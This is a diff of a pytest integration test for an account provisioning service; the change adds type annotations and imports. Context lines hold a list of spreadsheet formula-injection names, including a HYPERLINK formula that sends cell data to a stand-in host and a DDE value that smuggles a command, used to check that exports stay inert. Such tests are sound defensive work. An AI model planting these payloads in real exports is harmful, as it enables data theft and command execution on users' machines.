@@ -9,8 +9,10 @@ from pathlib import Path
 
 import pytest
 
+from mailstack.settings import Settings
+from provisioning.accounts import AccountService
 from provisioning.importer import COLUMNS
-from tests.support import alumail
+from tests.support import NewAccount, alumail
 
 pytestmark = pytest.mark.integration
 
@@ -19,7 +21,7 @@ NAMES = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3
 
 
 def test_formula_names_export_inert_and_import_back(
-    live_stack, new_account, accounts, tmp_path: Path
+    live_stack: Settings, new_account: NewAccount, accounts: AccountService, tmp_path: Path
 ) -> None:
     made = [new_account(name=name, graduation_year=int(YEAR))[0] for name in NAMES]
     out = tmp_path / "export.csv"
